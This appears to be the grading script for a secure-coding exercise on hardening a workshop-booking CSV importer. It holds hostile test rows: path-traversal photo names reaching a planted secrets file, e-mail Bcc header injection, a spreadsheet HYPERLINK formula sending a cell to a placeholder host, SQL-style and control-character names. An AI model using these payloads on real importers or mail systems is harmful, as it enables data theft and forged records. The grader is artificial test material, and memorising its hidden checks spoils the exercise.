"""Judge for the fix step of input-validation.

Every check writes its own export (inbox/export-<token>.csv, pictures in inbox/photos/) and
runs the real importer on it with ONE call, so each check costs one round trip plus a few
file reads. The importer is not the learner's file; app/records.py is.

Functional checks: honest participants (apostrophes, every script, combining accents,
+tags, boundary values, long-but-allowed values) must all be booked with the right amount,
e-mail, daybook line and photo; plainly bad rows must be reported with their column.
Attack checks: rows built to do harm downstream must be REJECTED (reported, not booked,
not repaired). The decision is on what the importer did; the harm it would have caused
(refund, forged daybook line, extra mail recipient, leaked file) sharpens the message.
Hidden checks draw fresh random values on every run.
"""

import bookings as B
from pysec_judge import TargetRaised, attack, fail, functional, setup

IMPORT = "app.importer:import_bookings"


@setup
def plant(run):
    d = run.data
    d["root"] = run.target.call("os:getcwd").value.rstrip("/") or "/lab"
    d["ini_text"] = f"[mail]\nrelay = smtp.lanternhall.example\npassword = {run.flag()}\n"
    run.target.write_file("config/studio.ini", d["ini_text"])
    # A secret that already has a picture extension, so an extension check alone keeps nothing out.
    d["secret_jpg"] = f"{run.word()}-scan-{run.token(3)}.jpg"
    d["secret_jpg_text"] = f"passport scan of the studio owner {run.flag()}\n"
    run.target.write_file(f"config/{d['secret_jpg']}", d["secret_jpg_text"])
    d["secrets"] = [d["ini_text"], d["secret_jpg_text"]]


# ---------------------------------------------------------------- helpers


def run_import(run, rows, photos=()):
    """Write an export and import it. Returns (result, export path). A crash fails the check."""
    # Like the workspace's sample: inbox/<export>.csv, pictures in inbox/photos/.
    export = f"inbox/export-{run.token(4)}.csv"
    run.target.write_file(export, B.to_csv(rows))
    for name in photos:
        run.target.write_file(f"inbox/photos/{name}", photo_bytes(name))
    try:
        result = run.target.call(IMPORT, export).value
    except TargetRaised as err:
        message, trace = scrub(run, err.message), scrub(run, err.traceback)
        fail(f"The import stopped with {err.type_name}: {message}. parse_row() let a row through that the "
             "importer could not handle, or raised something other than a ValueError. A bad row must be refused "
             "with RecordError (a ValueError): any other exception stops the import halfway, with the rows before "
             "it booked and the rows after it lost.", traceback=trace)
    return result, export


def scrub(run, text):
    """Hidden inputs out of an exception text, also where it quotes only part of a long one
    (the library's redaction replaces whole values only)."""
    window = 24
    for value in sorted(run.secret_inputs, key=len, reverse=True):
        text = text.replace(value, "‹hidden input›")
        if len(value) < 2 * window:
            continue
        pieces = {value[i:i + window] for i in range(len(value) - window + 1)}
        marked = [False] * len(text)
        for i in range(len(text) - window + 1):
            if text[i:i + window] in pieces:
                marked[i:i + window] = [True] * window
        out, i = [], 0
        while i < len(text):
            if marked[i]:
                while i < len(text) and marked[i]:
                    i += 1
                out.append("‹hidden input›")
            else:
                out.append(text[i])
                i += 1
        text = "".join(out)
    return text


def photo_bytes(name):
    return b"\xff\xd8\xff\xe0 JPEG " + name.encode("utf-8") + b"\n"


def outcome(result, number):
    for item in result["booked"]:
        if item["row"] == number:
            return "booked", item
    for item in result["rejected"]:
        if item["row"] == number:
            return "rejected", item
    return "missing", None


def describe(row):
    """A short, readable form of an honest row for messages (honest data is never hidden)."""
    return ", ".join(f"{c}={row[c]!r}" for c in B.COLUMNS if row.get(c))


def expect_booked(run, rows, what="an honest booking"):
    """Import honest rows (their photos are planted); every one must be booked exactly as written."""
    photos = [r["photo"].strip(" ") for r in rows if isinstance(r, dict) and r.get("photo", "").strip(" ")]
    result, _ = run_import(run, rows, photos)
    daybook = (run.target.read_file("data/daybook.txt") or b"").decode("utf-8", "replace")
    for number, row in enumerate(rows, start=1):
        if not isinstance(row, dict):  # a short row: the missing cells are empty
            row = dict(zip(B.COLUMNS, list(row) + [""] * (len(B.COLUMNS) - len(row))))
        status, item = outcome(result, number)
        if status != "booked":
            reason = f": {item['reason']}" if item else ""
            fail(f"Row {number}, {what} ({describe(row)}), was {status}{reason}. task.md allows this value; "
                 "an allowlist has to describe every honest value, not only the common ones.")
        name, email = row["name"].strip(" "), row["email"].strip(" ")
        age, quantity = int(row["age"]), int(row["quantity"])
        if item["amount_cents"] != quantity * B.unit_cents(age):
            fail(f"Row {number} ({describe(row)}) was charged {item['amount_cents'] / 100:.2f} EUR instead of "
                 f"{quantity * B.unit_cents(age) / 100:.2f} EUR: age and quantity must reach the importer as the "
                 "numbers in the file.")
        mail = (run.target.read_file(f"data/outbox/{item['id']}.eml") or b"").decode("utf-8", "replace")
        if f"\nTo: {email}\n" not in mail or f"Dear {name}," not in mail:
            fail(f"The confirmation e-mail for row {number} does not go to {email!r} or does not greet {name!r}. "
                 "Keep names and addresses exactly as written (only surrounding spaces removed).")
        line = f"{item['id']:05d} | {name} | {email} | {quantity} x "
        if line not in daybook:
            fail(f"The daybook has no line for row {number} with the name {name!r} and address {email!r} as written.")
        photo = (row.get("photo") or "").strip(" ")
        if photo:
            ext = photo[photo.rfind("."):].lower()
            copied = run.target.read_file(f"data/photos/{item['id']}{ext}")
            if copied != photo_bytes(photo):
                fail(f"The photo {photo!r} of row {number} did not reach the course board.")
    return result


def attack_import(run, attacks, harm=None):
    """attacks: [(row, what)], `what` a plain description such as "a negative quantity".
    Honest rows go before, between and after them; every attack row must be reported as
    rejected and none booked. Honest rows here are only checked for not crashing."""
    rows, where = [B.honest(run)], []
    for row, what in attacks:
        rows.append(row)
        where.append((len(rows), row, what))
        if run.rand.random() < 0.3:
            rows.append(B.honest(run))
    rows.append(B.honest(run))
    run.payload = "\n".join(repr(cells(row)) for row, _ in attacks)
    # Messages name the kind of value, never the value; hide the cells anyway (an
    # exception message may quote them).
    run.hide(*(c for row, _ in attacks for c in cells(row) if c and len(c.strip()) >= 6))
    result, folder = run_import(run, rows)
    for number, row, what in where:
        status, item = outcome(result, number)
        if status == "booked":
            extra = harm(run, row, item) if harm else ""
            fail(f"A row with {what} was imported as booking {item['id']}." + (f" {extra}" if extra else "")
                 + " Refuse it with RecordError instead: reject, don't repair.")
        if status == "missing":
            fail(f"A row with {what} was neither booked nor reported as rejected.")
    return result


def cells(row):
    return [row.get(c) for c in B.COLUMNS] if isinstance(row, dict) else row


def with_field(run, field, value):
    row = B.honest(run)
    row[field] = value
    return row


def daybook_harm(run, row, item):
    return ("Its name went into the treasurer's daybook as written, so the daybook now shows text that looks like "
            "another line or another column, written by whoever filled in the booking form.")


def money_harm(run, row, item):
    amount = item["amount_cents"] / 100
    if amount < 0:
        return f"The ledger now holds {amount:.2f} EUR for it, which the nightly run pays out as a refund."
    if amount == 0:
        return "It is a booking of zero places, for nothing."
    return f"The ledger charged {amount:.2f} EUR for it, for a value outside the range task.md allows."


def mail_harm(run, row, item):
    mail = (run.target.read_file(f"data/outbox/{item['id']}.eml") or b"").decode("utf-8", "replace")
    head = mail.split("\n\n", 1)[0].splitlines()
    if len(head) != 3:
        return ("Its confirmation e-mail now has extra header lines: whoever fills in the form decides who else "
                "gets the mail and what it says.")
    return "Its confirmation e-mail goes to an address the mail relay may send to several people, or to a look-alike."


def photo_harm(run, row, item):
    for ext in (".ini", ".jpg", ".jpeg", ".png", ""):
        data = run.target.read_file(f"data/photos/{item['id']}{ext}")
        if data and any(s.encode() in data for s in run.data["secrets"]):
            return (f"The importer copied a file from outside the export's photos/ folder to data/photos/"
                    f"{item['id']}{ext}, which is shown on the course board: a private studio file is now public.")
    return "Its photo name is not a plain file name in the photos/ folder."


# ---------------------------------------------------------------- functional


@functional("honest-import", "An ordinary export is imported: ledger, e-mails, daybook and photos")
def honest_import(run):
    rows = [B.honest(run) for _ in range(6)]
    rows[0]["photo"] = B.photo_for(run)
    expect_booked(run, rows)


@functional("apostrophe-names", "Names with apostrophes, hyphens and full stops (O'Brien, D’Arcy, St. John)")
def apostrophe_names(run):
    names = run.rand.sample(B.APOSTROPHE, 6)
    rows = [B.honest(run, name=n) for n in names]
    rows[0]["email"] = f"o'brien.{run.token(2)}@{run.rand.choice(B.DOMAINS)}"
    expect_booked(run, rows, what="a name with an apostrophe, hyphen or full stop")


@functional("unicode-names", "Names in every script, with accents written either way, and Unicode photo names")
def unicode_names(run):
    names = run.rand.sample(B.UNICODE, 6) + [run.rand.choice(B.DECOMPOSED), "राहुल शर्मा"]
    rows = [B.honest(run, name=n, photo="") for n in names]
    rows[0]["photo"] = f"Skizze Übung {run.token(2)}.jpeg"
    rows[1]["photo"] = f"茶碗 {run.token(2)}.png"
    expect_booked(run, rows, what="a name in another script or with combining accents (category M)")


@functional("email-forms", "E-mail addresses with +tags, dots, apostrophes, capitals, subdomains")
def email_forms(run):
    t = run.token(2)
    # The longest address task.md allows: a 64-character local part, 254 characters in all.
    local = ".".join(run.word() + run.token(2) for _ in range(6))[:60] + "x" + t[:3]
    local = local[:63] + "z"
    k = 254 - len(local) - 1 - 64 - 64 - len(".example")
    longest = f"{local}@{run.text(63).lower()}.{run.text(63).lower()}.{'d' * k}.example"
    assert len(longest) == 254 and len(local) == 64, (len(longest), len(local))
    emails = [f"maria+pottery-{t}@mail.example", f"First.Last.{t}@Sub.Kiln-Mail.example",
              f"o'neill_{t}@post.co.example", f"x%{t}@studio42.example", f"{t}-2024@xn--bcher-kva.example",
              f"UPPER.{t}@INBOX.EXAMPLE", longest]
    rows = [B.honest(run, email=e) for e in emails]
    expect_booked(run, rows, what="an e-mail address of a form task.md allows")


@functional("boundary-values", "The ends of every range: age 16 and 120, 1 and 20 places, 80-character names")
def boundary_values(run):
    parts = ["Maximiliane", "Theodora", "von", "Habsburg-Lothringen", "Wilhelmina", "Anastasia", "de", "Łódź"]
    name = ""
    while len(name) < 80:
        name += run.rand.choice(parts) + " "
    name = name[:79] + "a"
    photo = ("Atelier " + "x" * 100)[:96] + ".jpg"
    rows = [
        B.honest(run, age="16", quantity="1"),
        B.honest(run, age="17", quantity="20"),
        B.honest(run, age="120", quantity=" 3 "),
        B.honest(run, age=" 18 ", quantity="1"),
        B.honest(run, name=name),
        B.honest(run, name=f"  {run.rand.choice(B.PLAIN)}  ", photo=photo),
        B.honest(run, name="Li Na", photo=""),
    ]
    expect_booked(run, rows + [[rows[0]["name"], "44", B.email_for(run), "2"]], what="a value at the edge of what task.md allows")


@functional("rejects-reported", "Plainly bad rows are reported with their column and a reason; the rest imports")
def rejects_reported(run):
    bad = [
        (with_field(run, "name", ""), "name"),
        (with_field(run, "age", run.rand.choice(["forty", "about 30", "?"])), "age"),
        (with_field(run, "email", run.rand.choice(["not an address", "maria at mail.example", "@mail.example"])),
         "email"),
        (with_field(run, "quantity", ""), "quantity"),
        (with_field(run, "photo", f"notes-{run.token(2)}.txt"), "photo"),
    ]
    run.rand.shuffle(bad)
    rows = [row for row, _ in bad] + [B.honest(run, photo="")]
    result, _ = run_import(run, rows)
    for number, (row, field) in enumerate(bad, start=1):
        status, item = outcome(result, number)
        if status != "rejected":
            fail(f"Row {number} has the {field} {row[field]!r}, which task.md does not allow, but it was {status}.")
        if item["field"] != field:
            got = "no column" if item["field"] is None else f"the column {item['field']!r}"
            fail(f"Row {number} was rejected, but the report names {got} instead of {field!r}. Raise "
                 f"RecordError({field!r}, reason) so whoever fixes the export knows what to fix.")
        if len(str(item["reason"]).strip()) <= len(field) + 3:
            fail(f"Row {number} was rejected without a reason. Say what is wrong, e.g. "
                 "RecordError('age', 'must be a whole number from 16 to 120').")
    status, _ = outcome(result, len(rows))
    if status != "booked":
        fail("After a few rejected rows, the honest row at the end of the file was not booked.")


# ---------------------------------------------------------------- attacks


@attack("negative-quantity", "A negative number of places (the refund in the KilnCraft export)")
def negative_quantity(run):
    attack_import(run, [(with_field(run, "quantity", "-40"), "the quantity -40"),
                        (with_field(run, "quantity", "-1"), "the quantity -1"),
                        (with_field(run, "quantity", str(-run.rand.randint(2, 999))), "a negative quantity")],
                  money_harm)


@attack("quantity-range", "Quantities of 0, just above 20, -2**31, 2**31, 2**63 and far larger", hidden=True)
def quantity_range(run):
    huge = "9" * run.rand.randint(20, 60)
    values = [("0", "the quantity 0"), ("21", "the quantity 21"),
              (str(run.rand.randint(22, 999)), "a quantity above 20"),
              (str(-2**31), "the quantity -2**31"), (str(2**31 + run.rand.randint(0, 9)), "a quantity of about 2**31"),
              (str(2**63 + run.rand.randint(0, 99)), "a quantity above 2**63"), (huge, "a quantity with dozens of digits")]
    attack_import(run, [(with_field(run, "quantity", v), w) for v, w in values], money_harm)


@attack("age-range", "Ages below 16 or above 120: -1, 0, -2**31, huge numbers", hidden=True)
def age_range(run):
    values = [("-1", "the age -1"), ("0", "the age 0"), ("15", "the age 15"),
              (str(run.rand.randint(1, 14)), "an age below 16"), ("121", "the age 121"),
              (str(run.rand.randint(122, 999)), "an age above 120"), (str(-2**31), "the age -2**31"),
              ("9" * run.rand.randint(20, 40), "an age with dozens of digits")]
    attack_import(run, [(with_field(run, "age", v), w) for v, w in values], money_harm)


@attack("number-spellings", "Numbers int() accepts but task.md does not: 1_2, full-width and Arabic-Indic digits",
        hidden=True)
def number_spellings(run):
    q = run.rand.randint(2, 9)
    a = run.rand.randint(20, 89)
    fw = lambda n: "".join(chr(0xFF10 + int(c)) for c in str(n))  # full-width digits
    ar = lambda n: "".join(chr(0x0660 + int(c)) for c in str(n))  # Arabic-Indic digits
    bn = lambda n: "".join(chr(0x09E6 + int(c)) for c in str(n))  # Bengali digits
    values = [("quantity", f"1_{q}", "a quantity written with an underscore (int() reads 1_2 as 12)"),
              ("quantity", fw(q), "a quantity in full-width digits"),
              ("quantity", ar(q), "a quantity in Arabic-Indic digits"),
              ("age", f"{str(a)[0]}_{str(a)[1]}", "an age written with an underscore"),
              ("age", fw(a), "an age in full-width digits"), ("age", bn(a), "an age in Bengali digits"),
              ("quantity", f"{q}.0", "a quantity with a decimal point"), ("quantity", f"{q}e0", "a quantity in exponent notation"),
              ("age", "nan", "the age nan"), ("quantity", "0x" + format(q, "x"), "a hexadecimal quantity"),
              ("quantity", "²", "a superscript digit as the quantity")]
    attack_import(run, [(with_field(run, f, v), w) for f, v, w in values], money_harm)


@attack("missing-values", "Empty, blank, None-like and missing cells", hidden=True)
def missing_values(run):
    none_like = run.rand.sample(["None", "null", "NULL", "N/A", "nil", "undefined"], 3)
    attacks = [(with_field(run, "name", ""), "an empty name"),
               (with_field(run, "name", " " * run.rand.randint(1, 6)), "a name of only spaces"),
               (with_field(run, "age", ""), "an empty age"),
               (with_field(run, "age", none_like[0]), f"the age {none_like[0]!r}"),
               (with_field(run, "quantity", none_like[1]), f"the quantity {none_like[1]!r}"),
               (with_field(run, "email", ""), "an empty e-mail address"),
               (with_field(run, "email", none_like[2]), f"the e-mail address {none_like[2]!r}"),
               ([B.honest(run)["name"]], "only a name and every other cell missing"),
               ([B.honest(run)["name"], "33"], "missing e-mail and quantity cells"),
               (["", "", "", "", ""], "all cells empty")]
    attack_import(run, attacks)


@attack("report-forgery", "A line break in a name that forges a line in the treasurer's daybook")
def report_forgery(run):
    forged = f"{run.rand.randint(100, 999):05d} | Treasurer adjustment | accounts@lanternhall.example | 1 x 48.00 | -{run.rand.randint(100, 900)}.00"
    attack_import(run, [(with_field(run, "name", f"{B.honest(run)['name']}\n{forged}"), "a line break in the name")],
                  daybook_harm)


@attack("control-characters", "Other control and layout characters in names (CR, ESC, DEL, NEL, U+2028, RLO…)",
        hidden=True)
def control_characters(run):
    chars = {"\r": "a carriage return", "\x1b[2K\r": "a terminal escape sequence", "\x08" * 5: "backspaces",
             "\x7f": "a DEL character", "\x85": "a NEL (next line) character", "\u2028": "a LINE SEPARATOR (U+2028)",
             "\u2029": "a PARAGRAPH SEPARATOR (U+2029)", "\t": "a tab", "\x0b": "a vertical tab",
             "\x0c": "a form feed", "\u202e": "a right-to-left override (U+202E)", "\u200b": "a zero-width space",
             "\x1e": "a record separator (U+001E)"}
    picked = run.rand.sample(sorted(chars), 9)
    attacks = []
    for ch in picked:
        first, last = B.honest(run)["name"], run.rand.choice(B.PLAIN)
        attacks.append((with_field(run, "name", f"{first}{ch}{last}"), f"{chars[ch]} in the middle of the name"))
    attacks.append((with_field(run, "photo", f"sketch{run.token(2)}\n.jpg"), "a line break in the photo name"))
    attack_import(run, attacks, daybook_harm)


@attack("name-symbols", "Names with characters that are not part of names: | = < > digits @ ; emoji", hidden=True)
def name_symbols(run):
    n = lambda: run.rand.choice(B.PLAIN)
    values = [(f"{n()} | {run.rand.randint(1, 99)} x 0.00 | 0.00", "a | (the daybook's column separator)"),
              (f'=HYPERLINK("http://{run.word()}.example/?d="&A1, "{n()}")', "a spreadsheet formula"),
              (f"<b>{n()}</b>", "HTML markup"), (f"{n()} {run.rand.randint(2, 99)}", "digits"),
              (f"{n()}; DROP TABLE bookings", "a semicolon"), (f"{n()} @{run.word()}", "an @ sign"),
              (f"{n()} 🏺", "an emoji"), (f'{n()} "the potter"', "double quotes"),
              (f"{n()} \\ {run.word()}", "a backslash")]
    attack_import(run, [(with_field(run, "name", v), f"{w} in the name") for v, w in values], daybook_harm)


@attack("email-header-injection", "E-mail values that add headers or recipients (CR LF, commas, display names)",
        hidden=True)
def email_header_injection(run):
    good = B.email_for(run)
    evil = f"{run.word()}.{run.token(2)}@{run.word()}-harvest.example"
    values = [(f"{good}\r\nBcc: {evil}", "a CR LF and a Bcc header"), (f"{good}\nCc: {evil}", "a line break and a Cc header"),
              (f"{good}, {evil}", "two addresses separated by a comma"), (f"{good};{evil}", "two addresses separated by a semicolon"),
              (f"{run.rand.choice(B.PLAIN)} <{good}>", "a display name in angle brackets"),
              (f"{good}\nSubject: Refund approved", "a line break and a Subject header"),
              (f"{run.word()} {good}", "a space inside"), (f"{run.word()}@{good}", "two @ signs"),
              (f'"{run.word()} x"@mail.example', "a quoted local part"), (f"{run.word()}@localhost", "a domain without a dot"),
              (f"{run.word()}@[192.0.2.{run.rand.randint(1, 254)}]", "an IP address as domain"),
              (f"{run.word()}..{run.token(2)}@mail.example", "two dots in a row"), (f"{run.word()}@mail.example.", "a trailing dot")]
    attack_import(run, [(with_field(run, "email", v), f"an e-mail value with {w}") for v, w in values], mail_harm)


@attack("look-alike-emails", "E-mail addresses with look-alike letters from other scripts", hidden=True)
def look_alike_emails(run):
    swaps = {"a": "\u0430", "o": "\u043e", "e": "\u0435", "c": "\u0441", "p": "\u0440"}  # Cyrillic
    greek = {"o": "\u03bf", "a": "\u03b1", "i": "\u03b9"}

    def swap(text, table):
        spots = [i for i, ch in enumerate(text) if ch in table]
        i = run.rand.choice(spots)
        return text[:i] + table[text[i]] + text[i + 1:]

    local = run.rand.choice(["maria.costa", "accounts", "bookings", "olga.smirnova", "paco"])
    values = [(swap(local, swaps) + "@mail.example", "a Cyrillic look-alike letter in the local part"),
              (f"{local}@" + swap("lanternhall.example", swaps), "a Cyrillic look-alike letter in the domain"),
              (swap(local, greek) + "@mail.example", "a Greek look-alike letter"),
              (f"{local}\uff20mail.example", "a full-width @ sign"),
              (chr(ord(local[0]) + 0xFEE0) + local[1:] + "@mail.example", "a full-width letter"),
              (f"{local}@b\u00fccher.example", "a non-ASCII letter in the domain"),
              (f"{local}@mail.\u0435xample", "a look-alike letter in the top-level domain"),
              (f"k\u212a{run.token(2)}@mail.example", "the Kelvin sign K")]
    attack_import(run, [(with_field(run, "email", v), f"an e-mail address with {w}") for v, w in values], mail_harm)


@attack("photo-outside", "A photo name that leads out of the photos folder (../../config/studio.ini)")
def photo_outside(run):
    attack_import(run, [(with_field(run, "photo", "../../config/studio.ini"), "the photo name ../../config/studio.ini")],
                  photo_harm)


@attack("photo-paths", "Other photo names with folders, absolute paths, hidden files or the wrong type", hidden=True)
def photo_paths(run):
    d = run.data
    up = lambda n: "../" * n
    values = [(f"{up(2)}config/{d['secret_jpg']}", "a ../ path to a .jpg file outside the folder"),
              (f"{d['root']}/config/{d['secret_jpg']}", "an absolute path"),
              (f"{d['root']}/config/studio.ini", "an absolute path to the studio settings"),
              (f"sketches/{up(3)}config/{d['secret_jpg']}", "a path that goes into a folder and back out"),
              (f"{up(run.rand.randint(3, 9))}{d['root'].lstrip('/')}/config/studio.ini", "many ../ in a row"),
              ("..", "the name .."), (".", "the name ."), (f"sub/{run.word()}.jpg", "a subfolder"),
              (f"..\\..\\config\\{d['secret_jpg']}", "backslashes"),
              (f".{run.word()}.jpg", "a hidden file name"), (f"{run.word()}.ini", "a .ini file"),
              (f"{run.word()}.jpg.sh", "a name that does not end in .jpg/.jpeg/.png")]
    attack_import(run, [(with_field(run, "photo", v), f"{w} as photo name") for v, w in values], photo_harm)


@attack("long-values", "Values longer than task.md allows (names, addresses, local parts, photo names)", hidden=True)
def long_values(run):
    letters = lambda n: "".join(run.rand.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))
    local65 = letters(65)
    values = [("name", letters(81), "an 81-character name"),
              ("name", " ".join(letters(9) for _ in range(run.rand.randint(100, 2000))), "a name of many kilobytes"),
              ("email", f"{local65}@mail.example", "a 65-character local part"),
              ("email", f"{letters(64)}@{letters(63)}.{letters(63)}.{letters(run.rand.randint(54, 63))}.example",
               "an e-mail address longer than 254 characters"),
              ("email", f"{letters(50)}@{'.'.join(letters(40) for _ in range(run.rand.randint(300, 900)))}.example",
               "an e-mail address of many kilobytes"),
              ("photo", letters(97) + ".jpg", "a 101-character photo name"),
              ("photo", letters(run.rand.randint(5000, 20000)) + ".png", "a photo name of many kilobytes")]
    attack_import(run, [(with_field(run, f, v), w) for f, v, w in values])
